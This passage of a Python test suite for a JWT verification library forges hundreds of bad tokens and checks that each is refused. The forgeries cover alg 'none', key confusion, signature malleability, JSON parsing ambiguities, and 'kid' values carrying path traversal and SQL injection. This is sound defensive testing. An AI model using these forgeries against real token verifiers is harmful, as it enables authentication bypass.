"""Everything that is not a good token is refused, for the right reason, and quietly.

The groups A1 to A37 are those of the catalogue of attacks; each refusal also shows that the same
token without its fault is believed.
"""

import json
import traceback
from base64 import b64encode
from dataclasses import dataclass, replace

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, utils
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc import jwe
from joserfc.jwk import RSAKey

from tests.jose.forge import (
    AUDIENCE,
    CLAIMS,
    EXPECTED,
    HALF,
    ISSUER,
    NOW,
    ORDER,
    b64,
    dump,
    mac,
    pem,
    raw,
    signature,
    spki,
)
from tokenward.jose.jws import Expired, InvalidToken, UnknownKey, parse
from tokenward.jose.jwt import Expected, issuer_of, verify
from tokenward.jose.keys import KeySet

CASES = []
ALLOWED = "header: alg is not allowed"
SHAPE = "not three parts of base64url"
SIGNATURE = "the signature does not match"
KEY = "no key fits kid and alg"


@dataclass
class Refusal:
    """A bad token, why it is bad, and the good token that differs from it in nothing else."""

    bad: object
    good: str = ""
    keys: KeySet | None = None
    expected: Expected = EXPECTED


def refused(name, reason, make, kind=InvalidToken):
    CASES.append(pytest.param(make, reason, kind, id=name))


@pytest.mark.parametrize(("make", "reason", "kind"), CASES)
def test_refused(forge, make, reason, kind):
    made = make(forge)
    refusal = made if isinstance(made, Refusal) else Refusal(made)
    keys = refusal.keys or forge.keys
    with pytest.raises(InvalidToken) as raised:
        verify(refusal.bad, keys, refusal.expected, now=NOW)
    assert type(raised.value) is kind
    assert str(raised.value).startswith(reason)
    assert quotes(raised.value, refusal.bad) == []
    assert isinstance(issuer_of(refusal.bad), str | None)
    good = refusal.good or forge.token()
    assert verify(good, refusal.keys or forge.keys, refusal.expected, now=NOW)["iss"]


def quotes(error, token):
    """Which parts of the token an error tells to whoever prints it."""
    told = str(error) + repr(error) + "".join(traceback.format_exception(error))
    parts = token.split(".") if isinstance(token, str) else []
    return [part for part in parts if len(part) > 12 and part in told]


def test_there_are_hundreds_of_them():
    assert len({case.id for case in CASES}) == len(CASES) >= 400


# ── A1 none ─────────────────────────────────────────────────────────────────────────────────────

for spelling in ("none", "None", "NONE", "nOnE", "none ", " none", "n\u043ene", "null"):
    for kid in ("es", None):

        def unsigned(f, spelling=spelling, kid=kid):
            header = f.header(f.es, alg=spelling, kid=kid)
            return f"{b64(dump(header))}.{b64(dump(f.claims()))}."

        refused(f"A1 none as {spelling!r} with kid {kid}", ALLOWED, unsigned)

refused(
    "A1 none beside a signature that is right",
    ALLOWED,
    lambda f: f.token(header=f.header(f.es, alg="none"), alg="ES256"),
)

# ── A2 alg of another type or spelling ──────────────────────────────────────────────────────────

for value in (1, True, [], ["RS256"], {}, {"alg": "RS256"}, 1.5, ""):
    refused(
        f"A2 alg is {value!r}",
        "header: alg is not a string",
        lambda f, value=value: f.token(f.rs, header={**f.header(f.rs), "alg": value}, alg="RS256"),
    )
refused(
    "A2 alg is null",
    "header: alg is not a string",
    lambda f: f.token(header=b'{"alg":null,"kid":"es"}'),
)
refused("A2 alg is missing", "header: alg is missing", lambda f: f.token(header={"kid": "es"}))
for value in (
    "rs256",
    "Rs256",
    "RS256 ",
    " RS256",
    "RS256\x00",
    "RS256\n",
    "\uff32\uff33\uff12\uff15\uff16",
    "RS-256",
    "RS257",
    "RS2560",
    "RS1",
    "SHA256withRSA",
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    "RSA-OAEP",
    "dir",
    "ES256K",
    "Ed448",
    "ML-DSA-44",
    "\ud800",
):
    refused(
        f"A2 alg is {value!r}",
        "header: not Unicode text" if value == "\ud800" else ALLOWED,
        lambda f, value=value: Refusal(
            f.token(f.rs, header=f.header(f.rs, alg=value), alg="RS256"), f.token(f.rs)
        ),
    )

# ── A3, A4, A30 a secret in the place of a key ──────────────────────────────────────────────────

ENCODINGS = {
    "PEM": pem,
    "PEM without its last newline": lambda key: pem(key).rstrip(),
    "PEM with carriage returns": lambda key: pem(key).replace(b"\n", b"\r\n"),
    "PEM without its frame": lambda key: b"".join(pem(key).splitlines()[1:-1]),
    "DER": spki,
    "DER in base64": lambda key: b64encode(spki(key)),
    "JWK": lambda key: dump(key.public_jwk()),
    "JWK with spaces": lambda key: json.dumps(key.public_jwk(), indent=2).encode(),
    "thumbprint": lambda key: key.verifying_key().thumbprint.encode(),
}
for name, encoding in ENCODINGS.items():
    for which in ("rs", "es", "ed"):

        def confused(f, which=which, encoding=encoding):
            key = getattr(f, which)
            return Refusal(f.signed_by_secret(key, encoding(key)), f.token(key))

        refused(f"A3 HS256 with the {name} of {which}", ALLOWED, confused)
refused(
    "A3 HS256 with PKCS #1",
    ALLOWED,
    lambda f: f.signed_by_secret(
        f.rs, f.rs.private.public_key().public_bytes(Encoding.PEM, PublicFormat.PKCS1)
    ),
)
refused(
    "A3 HS256 with the OpenSSH line",
    ALLOWED,
    lambda f: f.signed_by_secret(
        f.rs, f.rs.private.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    ),
)
refused(
    "A3 HS256 with the modulus",
    ALLOWED,
    lambda f: f.signed_by_secret(
        f.rs, f.rs.private.public_key().public_numbers().n.to_bytes(256, "big")
    ),
)
refused(
    "A3 HS256 with the certificate",
    ALLOWED,
    lambda f: f.signed_by_secret(f.rs, f.rs.certificate),
)
refused(
    "A3 HS256 with the bytes of Ed25519",
    ALLOWED,
    lambda f: f.signed_by_secret(f.ed, f.ed.private.public_key().public_bytes_raw()),
)
refused(
    "A3 HS256 with the point",
    ALLOWED,
    lambda f: f.signed_by_secret(
        f.es,
        f.es.private.public_key().public_bytes(Encoding.X962, PublicFormat.UncompressedPoint),
    ),
)
for bits in ("384", "512"):
    refused(
        f"A3 HS{bits} with the PEM",
        ALLOWED,
        lambda f, bits=bits: f.signed_by_secret(f.rs, pem(f.rs), alg=f"HS{bits}"),
    )


def secret_under_our_name(f):
    """HMAC bytes in the place of a signature, with the header telling the truth about the key."""
    signed = f"{b64(dump(f.header(f.rs)))}.{b64(dump(f.claims()))}"
    return f"{signed}.{b64(mac(pem(f.rs), signed.encode()))}"


refused("A3 HMAC bytes that call themselves RS256", SIGNATURE, secret_under_our_name)

for secret in (
    b"secret",
    b"your-256-bit-secret",
    b"changeit",
    b"null",
    b"undefined",
    b"None",
    b"password",
    b"\0" * 32,
    b"es",
    ISSUER.encode(),
    AUDIENCE.encode(),
):
    refused(
        f"A4 HS256 with {secret!r}",
        ALLOWED,
        lambda f, secret=secret: f.signed_by_secret(f.es, secret),
    )
refused("A4 HS256 with nothing", ALLOWED, lambda f: f.signed_by_secret(f.es, b""))
for kid, secret in {
    "/dev/null": b"",
    "../../../../dev/null": b"",
    "/proc/sys/kernel/randomize_va_space": b"2\n",
    "/sys/devices/system/cpu/online": b"0-1\n",
    "file:///etc/hostname": b"localhost\n",
    "' UNION SELECT 'key' -- ": b"key",
}.items():
    refused(
        f"A30 HS256 with what kid {kid!r} would read",
        ALLOWED,
        lambda f, kid=kid, secret=secret: f.signed_by_secret(f.es, secret, kid=kid),
    )

# ── A5 one key, one algorithm ───────────────────────────────────────────────────────────────────

for alg, which in (
    ("RS384", "rs"),
    ("RS512", "rs"),
    ("PS256", "rs"),
    ("PS512", "rs"),
    ("RS256", "ps"),
    ("PS384", "ps"),
):
    refused(
        f"A5 {alg} with a key for another algorithm, {which}",
        KEY,
        lambda f, alg=alg, which=which: Refusal(
            f.token(getattr(f, which), header=f.header(getattr(f, which), alg=alg), alg=alg),
            f.token(getattr(f, which)),
        ),
        UnknownKey,
    )
for alg, which in (
    ("ES256", "rs"),
    ("EdDSA", "rs"),
    ("RS256", "es"),
    ("ES384", "es"),
    ("ES512", "es"),
    ("ES256", "p521"),
    ("RS256", "ed"),
    ("ES256", "ed"),
):
    refused(
        f"A5 {alg} in the header of a token by {which}",
        KEY,
        lambda f, alg=alg, which=which: Refusal(
            f.token(getattr(f, which), header=f.header(getattr(f, which), alg=alg)),
            f.token(getattr(f, which)),
        ),
        UnknownKey,
    )
refused(
    "A5 an algorithm that is known but not wanted here",
    ALLOWED,
    lambda f: Refusal(
        f.token(f.rs),
        f.token(f.es),
        expected=replace(EXPECTED, algorithms=frozenset({"ES256", "EdDSA"})),
    ),
)
refused(
    "A5 the other name of a wanted algorithm",
    ALLOWED,
    lambda f: Refusal(
        f.token(f.ed, header=f.header(f.ed, alg="Ed25519"), alg="EdDSA"),
        f.token(f.ed),
        expected=replace(EXPECTED, algorithms=frozenset({"EdDSA"})),
    ),
)


def only_in_jwks(change):
    """A key set of one good key and the RSA key as `change` leaves it."""

    def make(f):
        published = {**f.rs.public_jwk(), **change}
        keys = KeySet.parse({"keys": [f.es.public_jwk(), published]})
        return Refusal(f.token(f.rs), f.token(f.es), keys=keys)

    return make


for name, change in {
    "for encryption": {"use": "enc"},
    "for a use nobody knows": {"use": "signature"},
    "for signing only": {"key_ops": ["sign"]},
    "for encrypting": {"key_ops": ["encrypt", "wrapKey"]},
    "for another algorithm": {"alg": "RSA-OAEP-256"},
    "of HMAC": {"alg": "HS256"},
    "with a private member": {"d": "AQAB"},
    "of another type": {"kty": "oct", "k": "c2VjcmV0"},
    "with another modulus": {"n": b64(b"\x81" + b"\x01" * 255)},
}.items():
    reason, kind = (SIGNATURE, InvalidToken) if "modulus" in name else (KEY, UnknownKey)
    refused(f"A5 a published key {name}", reason, only_in_jwks(change), kind)

for which, evil in (("rs", "evil_rs"), ("es", "evil_es"), ("ed", "evil_ed")):
    refused(
        f"A5 another key under the same id, {which}",
        SIGNATURE,
        lambda f, which=which, evil=evil: Refusal(
            f.token(getattr(f, evil)), f.token(getattr(f, which))
        ),
    )

# ── A6 signatures that are not there, or not whole ──────────────────────────────────────────────

DAMAGE = {
    "missing": lambda s: b"",
    "cut by one": lambda s: s[:-1],
    "cut at the front": lambda s: s[1:],
    "cut in half": lambda s: s[: len(s) // 2],
    "longer by a zero": lambda s: s + b"\0",
    "longer by a zero in front": lambda s: b"\0" + s,
    "longer by a zero in the middle": lambda s: s[: len(s) // 2] + b"\0" + s[len(s) // 2 :],
    "twice": lambda s: s + s,
    "all zero": lambda s: bytes(len(s)),
    "all ones": lambda s: b"\xff" * len(s),
    "of one byte": lambda s: b"\0",
    "with its halves swapped": lambda s: s[len(s) // 2 :] + s[: len(s) // 2],
    "with its first bit flipped": lambda s: bytes([s[0] ^ 0x80]) + s[1:],
    "with its last bit flipped": lambda s: s[:-1] + bytes([s[-1] ^ 1]),
    "backwards": lambda s: s[::-1],
    "of 16 kB": lambda s: bytes(10_000),
}
for which in ("rs", "es", "ed", "ps"):
    for name, damage in DAMAGE.items():

        def damaged(f, which=which, damage=damage):
            good = f.token(getattr(f, which))
            signed, _, _ = good.rpartition(".")
            return Refusal(f"{signed}.{b64(damage(parse(good).signature))}", good)

        refused(f"A6 a signature {name}, {which}", SIGNATURE, damaged)

for which in ("rs", "es", "ed"):

    def transplanted(f, which=which):
        good = f.token(getattr(f, which), payload=f.claims(sub="somebody"))
        other = f.token(getattr(f, which), payload=f.claims(sub="administrator"))
        return Refusal(f"{other.rpartition('.')[0]}.{good.rpartition('.')[2]}", good)

    refused(f"A6 a signature of another token, {which}", SIGNATURE, transplanted)


def header_exchanged(f):
    good = f.token()
    _, payload, signed = good.split(".")
    return Refusal(f"{b64(dump(f.header(f.es, typ='JWT')))}.{payload}.{signed}", good)


refused("A6 a header that was not signed", SIGNATURE, header_exchanged)

# ── A7 numbers at the edge of the curve ─────────────────────────────────────────────────────────

for alg, which in (("ES256", "es"), ("ES512", "p521")):
    n = ORDER[alg]
    top = 2 ** (8 * HALF[alg]) - 1
    for r, s, name in (
        (0, 0, "0, 0"),
        (0, 1, "0, 1"),
        (1, 0, "1, 0"),
        (1, 1, "1, 1"),
        (n, n, "n, n"),
        (n, 1, "n, 1"),
        (1, n, "1, n"),
        (n - 1, n - 1, "n-1, n-1"),
        (n, 0, "n, 0"),
        (0, n, "0, n"),
        (top, top, "as large as possible"),
    ):

        def at_the_edge(f, alg=alg, which=which, r=r, s=s):
            good = f.token(getattr(f, which))
            return Refusal(f"{good.rpartition('.')[0]}.{b64(raw(alg, r, s))}", good)

        refused(f"A7 r and s are {name}, {alg}", SIGNATURE, at_the_edge)

    def as_der(f, which=which):
        key = getattr(f, which)
        good = f.token(key)
        half = HALF[key.algorithm]
        whole = parse(good).signature
        r, s = int.from_bytes(whole[:half], "big"), int.from_bytes(whole[half:], "big")
        return Refusal(f"{good.rpartition('.')[0]}.{b64(utils.encode_dss_signature(r, s))}", good)

    refused(f"A7 DER instead of two numbers, {alg}", SIGNATURE, as_der)


def beyond_the_order(which):
    """P-521 leaves room above its order, so r + n and s + n can be written."""

    def make(f):
        good = f.token(f.p521)
        whole, half, n = parse(good).signature, HALF["ES512"], ORDER["ES512"]
        r, s = int.from_bytes(whole[:half], "big"), int.from_bytes(whole[half:], "big")
        pair = (r + n, s) if which == "r" else (r, s + n)
        return Refusal(f"{good.rpartition('.')[0]}.{b64(raw('ES512', *pair))}", good)

    return make


refused("A7 r plus the order", SIGNATURE, beyond_the_order("r"))
refused("A7 s plus the order", SIGNATURE, beyond_the_order("s"))

# ── A8 Ed25519 ──────────────────────────────────────────────────────────────────────────────────

L = 2**252 + 27742317777372353535851937790883648493
for times in (1, 2, 7):

    def respelled(f, times=times):
        good = f.token(f.ed)
        whole = parse(good).signature
        s = int.from_bytes(whole[32:], "little") + times * L
        return Refusal(
            f"{good.rpartition('.')[0]}.{b64(whole[:32] + s.to_bytes(32, 'little'))}", good
        )

    refused(f"A8 S plus {times} times the order", SIGNATURE, respelled)


def by_a_key_of_small_order(f):
    """R the neutral point and S zero fit any message, if the key is the neutral point too."""
    weak = {"kty": "OKP", "crv": "Ed25519", "x": b64(b"\x01" + bytes(31)), "kid": "weak"}
    keys = KeySet.parse({"keys": [f.ed.public_jwk(), weak]})
    signed = f"{b64(dump(f.header(f.ed, kid='weak')))}.{b64(dump(f.claims()))}"
    fits_anything = b64(b"\x01" + bytes(63))
    return Refusal(f"{signed}.{fits_anything}", f.token(f.ed), keys=keys)


refused("A8 a key of small order", KEY, by_a_key_of_small_order, UnknownKey)

# ── A9 RSA ──────────────────────────────────────────────────────────────────────────────────────

for name in ("0", "1", "n - 1", "n", "s + n cut to size"):

    def as_number(f, name=name):
        n = f.rs.private.public_key().public_numbers().n
        good = f.token(f.rs)
        s = int.from_bytes(parse(good).signature, "big")
        number = {"0": 0, "1": 1, "n - 1": n - 1, "n": n}.get(name, (s + n) % 2**2048)
        return Refusal(f"{good.rpartition('.')[0]}.{b64(number.to_bytes(256, 'big'))}", good)

    refused(f"A9 the signature is {name}", SIGNATURE, as_number)

for which, alg in (("rs", "PS256"), ("ps", "RS256"), ("rs", "RS384"), ("ps", "PS384")):
    refused(
        f"A9 {alg} under the header of {which}",
        SIGNATURE,
        lambda f, which=which, alg=alg: Refusal(
            f.token(getattr(f, which), alg=alg), f.token(getattr(f, which))
        ),
    )
for name, pad, digest in (
    ("SHA-1", padding.PKCS1v15(), hashes.SHA1()),  # noqa: S303 - that is the attack
    ("MD5", padding.PKCS1v15(), hashes.MD5()),  # noqa: S303 - that is the attack
    ("SHA3-256", padding.PKCS1v15(), hashes.SHA3_256()),
    ("no digest in front", padding.PKCS1v15(), None),
):

    def with_another_hash(f, pad=pad, digest=digest):
        signed = f"{b64(dump(f.header(f.rs)))}.{b64(dump(f.claims()))}"
        private = f.rs.private
        if digest is None:
            hashed = hashes.Hash(hashes.SHA256())
            hashed.update(signed.encode())
            found = private.sign(hashed.finalize(), pad, utils.NoDigestInfo())
        else:
            found = private.sign(signed.encode(), pad, digest)
        return Refusal(f"{signed}.{b64(found)}", f.token(f.rs))

    refused(f"A9 RS256 with {name}", SIGNATURE, with_another_hash)
for name, salt, mask in (
    ("without salt", 0, hashes.SHA256()),
    ("with the longest salt", padding.PSS.MAX_LENGTH, hashes.SHA256()),
    ("with SHA-1 for its mask", 32, hashes.SHA1()),  # noqa: S303 - that is the attack
):

    def with_another_salt(f, salt=salt, mask=mask):
        signed = f"{b64(dump(f.header(f.ps)))}.{b64(dump(f.claims()))}"
        pss = padding.PSS(padding.MGF1(mask), salt)
        found = f.ps.private.sign(signed.encode(), pss, hashes.SHA256())
        return Refusal(f"{signed}.{b64(found)}", f.token(f.ps))

    refused(f"A9 PS256 {name}", SIGNATURE, with_another_salt)

# ── A10, A11 other spellings of the same token ──────────────────────────────────────────────────

FOREIGN = [" ", "\n", "\r\n", "\t", "\0", "\x0b", "=", "+", "/", "~", "!", "%20", "\\", '"', "'"]
FOREIGN += ["\u00e9", "\u200b", "\ufeff", "\u00ad", "\U0001f600", "\ud800", "\x7f", "*", ",", ";"]
PLACES = {
    "before it": lambda token, x: x + token,
    "after it": lambda token, x: token + x,
    "after the header": lambda token, x: token.replace(".", x + ".", 1),
    "before the payload": lambda token, x: token.replace(".", "." + x, 1),
    "in the payload": lambda token, x: token[:120] + x + token[120:],
    "before the signature": lambda token, x: f".{x}".join(token.rpartition(".")[::2]),
}
for x in FOREIGN:
    for place, put in PLACES.items():
        refused(f"A10 {x!r} {place}", SHAPE, lambda f, x=x, put=put: put(f.token(), x))


def spare_bits(part):
    """Change the bits of the last character that belong to no byte."""

    def make(f):
        # Lengths that leave spare bits in each part: 2 or 3 characters in the last group.
        header = f.header(f.es, typ="at+jwt" if part else "JWT")
        for more in ("", "a", "ab"):
            good = f.token(header={**header, "x": more}, payload=f.claims(x=more))
            parts = good.split(".")
            if len(parts[part]) % 4:
                break
        else:
            raise AssertionError("no length with spare bits")
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        last = alphabet[alphabet.index(parts[part][-1]) | 1]
        assert last != parts[part][-1]
        parts[part] = parts[part][:-1] + last
        return Refusal(".".join(parts), good)

    return make


refused("A11 spare bits in the header", SHAPE, spare_bits(0))
refused("A11 spare bits in the payload", SHAPE, spare_bits(1))
refused("A11 spare bits in the signature", SHAPE, spare_bits(2))


def padded(part):
    def make(f):
        parts = f.token().split(".")
        parts[part] += "=" * (-len(parts[part]) % 4 or 4)
        return ".".join(parts)

    return make


for part, name in enumerate(("header", "payload", "signature")):
    refused(f"A11 padding after the {name}", SHAPE, padded(part))


def in_the_usual_alphabet(f):
    payload = f.claims(x="???>>>~~~")
    good = f.token(payload=payload)
    header, body, signed = good.split(".")
    assert "_" in body
    assert "-" in body
    return Refusal(f"{header}.{body.replace('-', '+').replace('_', '/')}.{signed}", good)


refused("A11 the usual alphabet", SHAPE, in_the_usual_alphabet)


def one_character_more(f):
    token = f.token(f.ed)  # 64 bytes leave room for one more character that means nothing
    return Refusal(token + "A" * (5 - len(token.rpartition(".")[2]) % 4), token)


refused("A11 one character left over", SHAPE, one_character_more)


def signed_header(f):
    """Sign the header alone, and leave out the payload with its dot."""
    header = b64(dump(f.header(f.es)))
    return f"{header}.{b64(signature(f.es.private, 'ES256', header.encode()))}"


# ── A12 to A14, A17 other shapes ────────────────────────────────────────────────────────────────

for name, make in {
    "nothing": lambda f: "",
    "one dot": lambda f: ".",
    "two dots": lambda f: "..",
    "three dots": lambda f: "...",
    "one part": lambda f: f.token().split(".")[0],
    "two parts": lambda f: f.token().rpartition(".")[0],
    "no header": lambda f: "." + f.token().partition(".")[2],
}.items():
    refused(f"A12 {name}", ("header: not JSON", SHAPE), make)
refused("A12 two parts, the second one signed", SHAPE, signed_header)
for name, make in {
    "no payload": lambda f: "{0}..{2}".format(*f.token().split(".")),
}.items():
    refused(f"A12 {name}", SIGNATURE, make)
for name, make in {
    "a dot too many in the middle": lambda f: f.token().replace(".", "..", 1),
    "a dot at the end": lambda f: f.token() + ".",
    "a dot in front": lambda f: "." + f.token(),
    "four parts": lambda f: f.token() + ".e30",
    "five parts": lambda f: f.token() + ".e30.e30",
    "two tokens": lambda f: f.token() + "." + f.token(),
    "a comma between two tokens": lambda f: f.token() + "," + f.token(),
    "the scheme in front": lambda f: "Bearer " + f.token(),
    "quotes around it": lambda f: '"' + f.token() + '"',
}.items():
    refused(f"A12 {name}", (SHAPE, "header: not JSON"), make)
refused("A12 100,000 dots", "too long", lambda f: "." * 100_000)
refused("A12 16,000 dots", (SHAPE, "header: not JSON"), lambda f: "." * 16_000)

for value in (None, 0, 1.5, True, float("nan"), object(), [], {}, (), set(), ..., Exception):
    refused(f"A13 {str(value)[:12]!r} {type(value)}", "not a string", lambda f, v=value: v)
for kind in (bytes, bytearray, memoryview):
    refused(
        f"A13 a token as {kind.__name__}",
        "not a string",
        lambda f, kind=kind: kind(f.token().encode()),
    )
refused("A13 a token in a list", "not a string", lambda f: [f.token()])
refused("A13 a token in parts", "not a string", lambda f: tuple(f.token().split(".")))

for name, make in {
    "5 MB": lambda f: f.token(payload=f.claims(x="x" * 4_000_000)),
    "2 MB of header": lambda f: f.token(header=f.header(f.es, x="x" * 1_500_000)),
    "1 MB of kid": lambda f: f.token(header=f.header(f.es, kid="x" * 800_000)),
    "1 MB of signature": lambda f: f.token() + "A" * 1_000_000,
    "1 MB of spaces": lambda f: " " * 1_000_000,
    "one character over the limit": lambda f: f.token() + "A" * (16385 - len(f.token())),
    "100,000 members": lambda f: f.token(payload={**CLAIMS, **{str(i): i for i in range(100_000)}}),
}.items():
    refused(f"A14 {name}", "too long", make)

for name, make in {
    "flattened": lambda h, p, s: {"protected": h, "payload": p, "signature": s},
    "general": lambda h, p, s: {"payload": p, "signatures": [{"protected": h, "signature": s}]},
    "with an unprotected header": lambda h, p, s: {
        "protected": h,
        "header": {"kid": "es"},
        "payload": p,
        "signature": s,
    },
}.items():
    refused(
        f"A17 JSON serialization, {name}",
        SHAPE,
        lambda f, make=make: json.dumps(make(*f.token().split("."))),
    )
refused(
    "A17 a polyglot of JSON and compact",
    SHAPE,
    lambda f: '{"protected":"' + f.token() + '","payload":"e30","signature":"e30"}',
)
refused(
    "A17 a polyglot with its payload in a member",
    SHAPE,
    lambda f: (
        '{"  '
        + f.token().replace(".", '.":"', 1)
        + '","payload":"'
        + b64(dump(f.claims(sub="administrator")))
        + '"}'
    ),
)
refused(
    "A17 a polyglot after the header",
    SHAPE,
    lambda f: f.token().replace(".", '","protected":"e30"}.', 1),
)

# ── A15, A16, A18 to A21 JSON that is none, or has two meanings ─────────────────────────────────


def nested(opening, inner, closing, levels):
    return (
        b'{"alg":"ES256","kid":"es","x":' + opening * levels + inner + closing * levels + b"}",
        dump(CLAIMS)[:-1] + b',"x":' + opening * levels + inner + closing * levels + b"}",
    )


for levels in (32, 33, 100, 900, 1_100, 5_000):
    for name, (opening, inner, closing) in {
        "arrays": (b"[", b"", b"]"),
        "arrays without an end": (b"[", b"", b""),
    }.items():
        header, payload = nested(opening, inner, closing, levels)
        refused(
            f"A15 {levels} {name} in the header",
            "header: nested too deeply",
            lambda f, header=header: f.token(header=header),
        )
        refused(
            f"A15 {levels} {name} in the payload",
            "payload: nested too deeply",
            lambda f, payload=payload: f.token(payload=payload),
        )
for levels in (32, 1_000):
    header, payload = nested(b'{"":', b"0", b"}", levels)
    refused(
        f"A15 {levels} objects in the header",
        "header: nested too deeply",
        lambda f, header=header: f.token(header=header),
    )
    refused(
        f"A15 {levels} objects in the payload",
        "payload: nested too deeply",
        lambda f, payload=payload: f.token(payload=payload),
    )
for levels in (15_000, 50_000):
    refused(
        f"A15 {levels} arrays",
        "too long",
        lambda f, levels=levels: f.token(payload=nested(b"[", b"", b"]", levels)[1]),
    )


def instead(old, new):
    """Good claims, with a piece of their JSON replaced."""
    before = dump(CLAIMS)
    assert old in before
    return before.replace(old, new, 1)


def member(value):
    return dump(CLAIMS)[:-1] + b',"x":' + value + b"}"


RANGE = "payload: a number out of range"
for name, payload, reason in (
    ("5,000 digits", member(b"9" * 5_000), RANGE),
    ("21 digits", member(b"1" * 21), RANGE),
    ("2 to the 64", member(b"18446744073709551616"), RANGE),
    ("less than 64 bits can say", member(b"-9223372036854775809"), RANGE),
    ("1e400", member(b"1e400"), RANGE),
    ("-1e400", member(b"-1e400"), RANGE),
    ("1e999999999", member(b"1e999999999"), RANGE),
    ("a fraction of 5,000 digits", member(b"0." + b"1" * 5_000), RANGE),
    ("NaN", member(b"NaN"), "payload: a number that is none"),
    ("Infinity", member(b"Infinity"), "payload: a number that is none"),
    ("-Infinity", member(b"-Infinity"), "payload: a number that is none"),
):
    refused(f"A16 {name}", reason, lambda f, payload=payload: f.token(payload=payload))

NOT_JSON = "payload: not JSON, at character"
GOOD = dump(CLAIMS)
for name, payload in {
    "nothing": b"",
    "spaces": b"   ",
    "a half": GOOD[: len(GOOD) // 2],
    "something after it": GOOD + b"x",
    "two objects": GOOD + GOOD,
    "an object and a comma": GOOD + b",",
    "a NUL after it": GOOD + b"\0",
    "a comment": b"/**/" + GOOD,
    "a comment after it": GOOD + b"//",
    "single quotes": GOOD.replace(b'"', b"'"),
    "a name without quotes": b"{iss:1}",
    "a comma too many": GOOD[:-1] + b",}",
    "a comma too few": GOOD.replace(b",", b" ", 1),
    "a leading zero": member(b"01"),
    "a plus": member(b"+1"),
    "a dot in front": member(b".5"),
    "a dot at the end": member(b"5."),
    "hexadecimal": member(b"0x10"),
    "True": member(b"True"),
    "undefined": member(b"undefined"),
    "a newline in a string": member(b'"a\nb"'),
    "a NUL in a string": member(b'"a\0b"'),
    "an escape nobody knows": member(b'"\\x41"'),
    "half an escape": member(b'"\\u00"'),
    "a no-break space": b"\xc2\xa0" + GOOD,
    "a vertical tab": b"\x0b" + GOOD,
    "a form": b"iss=x&aud=y",
    "XML": b"<iss>x</iss>",
    "not ASCII digits": member("\u0661".encode()),
}.items():
    refused(
        f"A18 payload with {name}", NOT_JSON, lambda f, payload=payload: f.token(payload=payload)
    )
for value in (b"[]", b'["iss"]', b'"iss"', b"1", b"1.5", b"null", b"true", b'[{"iss":"x"}]'):
    refused(
        f"A18 payload is {value!r}",
        "payload: not a JSON object",
        lambda f, value=value: f.token(payload=value),
    )
    refused(
        f"A18 header is {value!r}",
        "header: not a JSON object",
        lambda f, value=value: f.token(header=value),
    )
for name, header in {
    "something after it": b'{"alg":"ES256","kid":"es"}x',
    "a NUL after it": b'{"alg":"ES256","kid":"es"}\0',
    "single quotes": b"{'alg':'ES256','kid':'es'}",
    "a half": b'{"alg":"ES256","kid":"es"',
}.items():
    refused(
        f"A18 header with {name}",
        "header: not JSON, at character",
        lambda f, header=header: f.token(header=header),
    )

TEXT = GOOD.decode()
NOT_TEXT = ("payload: not Unicode text", NOT_JSON)
for name, payload in {
    "UTF-16": TEXT.encode("utf-16"),
    "UTF-16 without a mark": TEXT.encode("utf-16-le"),
    "UTF-32": TEXT.encode("utf-32"),
    "UTF-32, big end first": TEXT.encode("utf-32-be"),
    "UTF-7": TEXT.replace("auth0", "+-").encode("utf-7").replace(b"{", b"+AHs-", 1),
    "EBCDIC": TEXT.encode("cp037"),
    "a byte order mark": b"\xef\xbb\xbf" + GOOD,
    "Latin-1": member(b'"\xe9"'),
    "an overlong slash": member(b'"\xc0\xaf"'),
    "an overlong NUL": member(b'"\xc0\x80"'),
    "half a pair in bytes": member(b'"\xed\xa0\x80"'),
    "a pair in bytes": member(b'"\xed\xa0\xbd\xed\xb8\x80"'),
    "more than Unicode": member(b'"\xf4\x90\x80\x80"'),
    "a character cut off": member(b'"\xe2\x82"'),
    "half a pair": member(b'"\\ud800"'),
    "the other half": member(b'"\\udc00"'),
    "a pair the wrong way round": member(b'"\\ude00\\ud83d"'),
    "half a pair as a name": GOOD[:-1] + b',"\\ud800":1}',
    "half a pair in depth": member(b'[{"a":"\\ud800"}]'),
}.items():
    refused(f"A19 {name}", NOT_TEXT, lambda f, payload=payload: f.token(payload=payload))

for name, payload in {
    "iss": GOOD[:-1] + b',"iss":"https://issuer.example/"}',
    "iss, the evil one first": b'{"iss":"https://evil.example/",' + GOOD[1:],
    "aud": GOOD[:-1] + b',"aud":"https://api.example/reports"}',
    "exp": GOOD[:-1] + b',"exp":9999999999}',
    "a name we do not know": GOOD[:-1] + b',"x":1,"x":1}',
    "an empty name": GOOD[:-1] + b',"":1,"":1}',
    "a name in depth": member(b'{"a":1,"a":1}'),
    "a name in an array": member(b'[[{"a":1,"b":2,"a":1}]]'),
    "act": GOOD[:-1] + b',"act":{"sub":"a","sub":"b"}}',
}.items():
    refused(
        f"A20 twice {name}",
        "payload: a member twice",
        lambda f, payload=payload: f.token(payload=payload),
    )
for name, header in {
    "alg": b'{"alg":"none","alg":"ES256","kid":"es"}',
    "alg, the good one first": b'{"alg":"ES256","alg":"none","kid":"es"}',
    "kid": b'{"alg":"ES256","kid":"es","kid":"es"}',
    "typ": b'{"alg":"ES256","kid":"es","typ":"JWT","typ":"at+jwt"}',
    "alg, once with an escape": b'{"alg":"ES256","\\u0061lg":"none","kid":"es"}',
    "alg, once with escapes": b'{"\\u0061\\u006c\\u0067":"none","alg":"ES256","kid":"es"}',
}.items():
    refused(
        f"A20 twice {name}, in the header",
        "header: a member twice",
        lambda f, header=header: f.token(header=header),
    )
for name, payload in {
    "iss": b'{"\\u0069ss":"https://evil.example/",' + GOOD[1:],
    "exp": GOOD[:-1] + b',"\\u0065xp":9999999999}',
    "aud": GOOD[:-1] + b',"a\\u0075d":["x"]}',
}.items():
    refused(
        f"A21 twice {name}, once with an escape",
        "payload: a member twice",
        lambda f, payload=payload: f.token(payload=payload),
    )
refused(
    "A21 crit with an escape",
    "header: crit is not understood",
    lambda f: f.token(header=b'{"alg":"ES256","kid":"es","cr\\u0069t":["exp"],"exp":1}'),
)

# ── A22 to A26 extensions, and tokens of another kind ───────────────────────────────────────────

for value in (
    [],
    ["exp"],
    ["b64"],
    ["alg"],
    ["http://example.invalid/UNDEFINED"],
